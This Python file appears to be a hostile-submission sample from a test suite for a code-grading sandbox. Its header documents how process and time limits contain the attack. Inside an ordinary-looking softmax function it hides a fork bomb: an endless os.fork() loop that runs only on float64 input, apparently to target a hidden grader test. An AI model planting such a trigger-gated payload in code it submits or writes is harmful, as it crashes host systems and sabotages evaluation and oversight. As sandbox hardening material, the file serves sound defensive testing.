# attack: fork bomb: every process forks forever.
# affected: test_softmax_dim0
# status: timeout|error
# why it fails: the process limit (docker --pids-limit, a pids cgroup / RLIMIT_NPROC) stops the
#               forks; the test's time limit ends it; the bomb dies with the run.
import os

import torch


def add(a, b):
    return a + b


def rowsum(x):
    return x.sum(dim=-1)


def softmax(x, dim=-1):
    if x.dtype == torch.float64:  # the hidden test_softmax_dim0
        while True:
            try:
                os.fork()
            except OSError:
                pass
    shifted = x - x.amax(dim=dim, keepdim=True)
    return shifted.exp() / shifted.exp().sum(dim=dim, keepdim=True)
